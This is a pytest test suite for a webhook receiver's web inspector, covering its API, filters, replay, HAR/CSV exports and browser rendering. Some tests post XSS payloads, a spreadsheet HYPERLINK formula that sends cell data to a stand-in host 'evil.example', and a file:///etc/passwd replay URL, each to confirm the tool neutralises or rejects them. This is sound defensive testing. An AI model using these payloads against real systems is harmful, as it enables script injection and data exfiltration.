"""The web inspector: its API in process and over HTTP, and the page in a real headless Chromium."""

import csv
import io
import json
import re
import shutil
import subprocess
import tarfile
import time
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from lab_under_test import needs_browser

import webhooklab as wl
from webhooklab._providers import PROVIDERS

SECRET = "whsec_inspector_secret_0000"
ROOT = Path(__file__).parent.parent
ARTIFACTS = ROOT / "test-artifacts"
ATTACK = '<script>alert("body")</script><img src=x onerror=alert("img")><a href="javascript:alert(1)">x</a>'


@pytest.fixture
def irx():
    with wl.Receiver(secrets={"pay": SECRET}) as receiver:
        yield receiver
    receiver.close()


def api(rx, path, **kwargs):
    """A request as the inspector page makes it: changes carry the X-Webhooklab header."""
    headers = {"X-Webhooklab": "1", **kwargs.pop("headers", {})}
    return requests.request(kwargs.pop("method", "GET"), rx.base_url + path, timeout=10, headers=headers, **kwargs)


def test_the_page_and_its_files_are_local_with_a_strict_policy(irx):
    page = api(irx, "/")
    assert page.status_code == 200 and "<script src=\"inspector/app.js\" defer>" in page.text  # relative: any prefix
    policy = page.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "default-src 'none'" in policy
    assert "http" not in page.text.replace("http-equiv", "")  # no CDN, no external font
    for name in ("app.js", "app.css"):
        static = api(irx, f"/inspector/{name}")
        assert static.status_code == 200 and "https://" not in static.text
    assert api(irx, "/api").json()["inspector"] == irx.base_url + "/"


def test_filters_and_search(irx):
    stripe, github = wl.Stripe(SECRET), wl.GitHub("x")
    stripe.send(stripe.event("charge.succeeded"), to=irx.url("pay"))
    wl.Stripe("whsec_wrong_secret_00000").send(stripe.event("charge.refunded"), to=irx.url("pay"))
    github.send(github.event("push", commits=["needle in a haystack"]), to=irx.url("gh"))
    listed = lambda **params: [e["event_type"] for e in api(irx, "/api/events", params=params).json()["events"]]  # noqa: E731
    assert listed(provider="github") == ["push"]
    assert listed(endpoint="pay", verified="true") == ["charge.succeeded"]
    assert listed(verified="false") == ["charge.refunded"] and listed(verified="unchecked") == ["push"]
    assert listed(q="needle") == ["push"] and listed(event_type="charge.refunded") == ["charge.refunded"]
    assert listed(newest="1", limit="2") == ["push", "charge.refunded"]


def test_inspect_gives_the_verdict_the_attempts_and_curl(irx):
    stripe = wl.Stripe(SECRET)
    irx.respond("pay", fail_first=1)
    stripe.deliver(stripe.event("charge.succeeded"), to=irx.url("pay"), clock=wl.VirtualClock())
    first = irx.store.list()[0]
    detail = api(irx, f"/api/events/{first.id}/inspect").json()
    assert detail["explanation"]["ok"] and dict(detail["explanation"]["steps"])["key"].startswith("whsec_…0000")
    assert [a["status"] for a in detail["attempts"]] == [500, 200]
    assert detail["curl"].startswith(f"curl -X POST {irx.url('pay')} -H 'User-Agent: Stripe/1.0")
    assert "Host:" not in detail["curl"]


def test_curl_sends_the_same_bytes(irx):
    if shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    requests.post(irx.url("raw"), data=b"\x00\xff binary", headers={"X-Test": "it's here"}, timeout=5)
    command = api(irx, "/api/events/1/inspect").json()["curl"]
    subprocess.run(command, shell=True, check=True, capture_output=True, timeout=30)
    again = irx.event(-1)
    assert again.body == b"\x00\xff binary" and again.header("X-Test") == "it's here"


def test_replay_as_captured_and_re_signed(irx):
    stripe = wl.Stripe(SECRET)
    stripe.send(stripe.event("charge.succeeded"), to=irx.url("pay"), timestamp=int(time.time()) - 3600)
    assert irx.event(-1).reason == "timestamp_too_old"
    as_captured = api(irx, "/api/events/1/replay", method="POST", json={}).json()
    assert as_captured["status"] == 200 and irx.event(-1).reason == "timestamp_too_old"  # as in real life
    resigned = api(irx, "/api/events/1/replay", method="POST", json={"resign": True, "secret": SECRET}).json()
    assert resigned["resigned"] and irx.event(-1).verified is True and irx.store.count() == 3
    assert irx.event(-1).body == irx.event(1).body
    bad = api(irx, "/api/events/1/replay", method="POST", json={"url": "file:///etc/passwd"})
    assert bad.status_code == 400 and "must start with http://" in bad.json()["error"]


def test_endpoint_responses_are_editable(irx):
    assert api(irx, "/api/endpoints/shop", method="PUT", json={"status": 503, "fail_first": 0}).json()["status"] == 503
    assert requests.post(irx.url("shop"), timeout=5).status_code == 503
    rows = api(irx, "/api/endpoints").json()["endpoints"]
    assert {"endpoint": "shop", "events": 1, "status": 503, "delay": 0.0, "fail_first": 0} in rows
    wrong = api(irx, "/api/endpoints/shop", method="PUT", json={"status": 42})
    assert wrong.status_code == 400 and "from 100 to 599, got 42" in wrong.json()["error"]


@pytest.fixture(scope="module")
def har_schema(tmp_path_factory):
    """The HAR 1.2 JSON schemas published as the npm package har-schema."""
    if shutil.which("npm") is None:
        pytest.skip("npm is needed to fetch har-schema")
    folder = tmp_path_factory.mktemp("har")
    subprocess.run(["npm", "pack", "har-schema@2", "--pack-destination", str(folder)], check=True,
                   capture_output=True, timeout=120, cwd=folder)  # fmt: skip
    with tarfile.open(next(folder.glob("*.tgz"))) as archive:
        return {Path(m.name).name: json.load(archive.extractfile(m))
                for m in archive.getmembers() if m.name.startswith("package/lib/") and m.name.endswith(".json")}  # fmt: skip


def test_exports(irx, har_schema):
    import jsonschema
    from referencing import Registry, Resource
    from referencing.jsonschema import DRAFT6

    stripe = wl.Stripe(SECRET)
    stripe.send(stripe.event("charge.succeeded"), to=irx.url("pay"))
    requests.post(irx.url("bin?x=1"), data=b"\xff\x00", timeout=5)
    har = api(irx, "/api/export.har").json()
    registry = Registry().with_resources(
        (schema["$id"].rstrip("#"), Resource.from_contents(schema, default_specification=DRAFT6))
        for schema in har_schema.values()
    )
    validator = jsonschema.Draft6Validator(har_schema["har.json"], registry=registry)
    assert sorted(e.message for e in validator.iter_errors(har)) == []
    assert har["log"]["version"] == "1.2" and len(har["log"]["entries"]) == 2
    assert har["log"]["entries"][1]["request"]["postData"]["comment"].startswith("base64")
    broken = json.loads(json.dumps(har))
    del broken["log"]["entries"][0]["request"]["method"]
    assert list(validator.iter_errors(broken))  # the schema check can fail

    rows = list(csv.DictReader(io.StringIO(api(irx, "/api/export.csv").text)))
    assert [r["event_type"] for r in rows] == ["charge.succeeded", ""] and rows[0]["verified"] == "True"
    exported = api(irx, "/api/export.json", params={"provider": "stripe"}).json()
    assert len(exported) == 1 and exported[0]["json"]["type"] == "charge.succeeded"
    assert "attachment" in api(irx, "/api/export.har").headers["Content-Disposition"]


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client):
    """Anyone can name the endpoint, the body and the headers: none of it may become a formula."""
    for start in FORMULA_STARTS:
        headers = {"X-GitHub-Event": f"{start}push", "X-GitHub-Delivery": f"{start}id"} if start != "\r" else {}
        client.post(f"/hooks/{quote(start)}pay", data=f'{start}HYPERLINK("http://evil.example/?"&A1)'.encode(),
                    headers=headers)  # fmt: skip
    client.post("/hooks/orders", data=b'{"total": -1}', headers={"X-GitHub-Event": "push", "X-GitHub-Delivery": "d-1"})
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").get_data(as_text=True), newline="")))
    assert len(rows) == len(FORMULA_STARTS) + 1
    for start, row in zip(FORMULA_STARTS, rows):
        assert row["endpoint"] == f"'{start}pay"
        if start != "\r":  # no header value can hold a carriage return
            assert (row["event_type"], row["delivery_id"]) == (f"'{start}push", f"'{start}id")
        if start.strip():  # the preview folds leading whitespace away
            assert row["preview"] == f"'{start}HYPERLINK(\"http://evil.example/?\"&A1)"
        assert row["id"].isdigit() and row["status"] == "200" and row["size"].isdigit()
    ordinary = rows[-1]
    assert (ordinary["endpoint"], ordinary["event_type"], ordinary["delivery_id"]) == ("orders", "push", "d-1")
    assert ordinary["preview"] == '{"total": -1}' and ordinary["provider"] == "github" and ordinary["size"] == "13"


def test_csv_export_leaves_numbers_as_numbers():
    from webhooklab._receiving.export import _cell

    assert _cell(-1) == -1 and _cell(-0.5) == -0.5 and _cell(None) is None and _cell("-1") == "'-1"


def test_rx_inspector_links_and_embeds(irx):
    view = irx.inspector()
    page = view._repr_html_()
    assert f'href="{irx.base_url}/"' in page and "<iframe" in page and repr(view).endswith(irx.base_url + "/")


# -- in a real browser ------------------------------------------------------------------------


@needs_browser
def test_the_page_updates_live_and_shows_the_detail(irx, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(irx.base_url + "/")
    page.locator("#empty").wait_for()
    stripe = wl.Stripe(SECRET)
    stripe.send(stripe.event("payment_intent.succeeded", amount=4200), to=irx.url("pay"))
    # The page asks for new events every 0.5 s: one shows within a second, without a reload (0.5 s of slack
    # for a loaded machine).
    page.locator("#rows tr").first.wait_for(timeout=1500)
    assert "payment_intent.succeeded" in page.locator("#rows tr").first.inner_text()
    page.locator("#rows tr").first.click()
    page.get_by_text("Stripe signature valid").wait_for()
    detail = page.locator("#detail").inner_text()
    assert "Stripe-Signature" in detail and "Headers, as sent" in detail and '"amount": 4200' in detail

    page.get_by_role("button", name="Replay").click()
    page.get_by_text("answered 200").wait_for()
    page.locator("#rows tr").nth(1).wait_for(timeout=2000)
    assert page.locator("#rows tr").count() == 2
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "inspector.png"))
    assert not errors


@needs_browser
def test_an_attack_payload_runs_nothing_and_shows_as_text(irx, browser):
    page = browser.new_page()
    dialogs, errors = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: errors.append(str(error)))
    endpoint = '<img src=x onerror=alert("endpoint")>'
    requests.post(irx.url(endpoint), data=ATTACK.encode(),
                  headers={"X-Evil": '<script>alert("header")</script>', "Content-Type": "text/html"}, timeout=5)  # fmt: skip
    page.goto(irx.base_url + "/")
    page.locator("#rows tr").first.click()
    page.get_by_text("Headers, as sent").wait_for()
    page.wait_for_timeout(500)  # give any injected handler the chance to fire
    assert dialogs == [] and errors == []
    assert page.locator("#detail img, #detail script, #rows img, #detail a[href^='javascript']").count() == 0
    assert ATTACK in page.locator("#detail pre").first.inner_text()
    assert endpoint in page.locator("#rows").inner_text()
    assert '<script>alert("header")</script>' in page.locator("#detail").inner_text()


def test_the_page_offers_every_registered_provider_as_a_filter():
    page = (Path(wl.__file__).parent / "_receiving" / "inspector" / "static" / "index.html").read_text()
    offered = set(re.findall(r'<option value="([a-z]+)">', page))
    assert set(PROVIDERS) <= offered, set(PROVIDERS) - offered
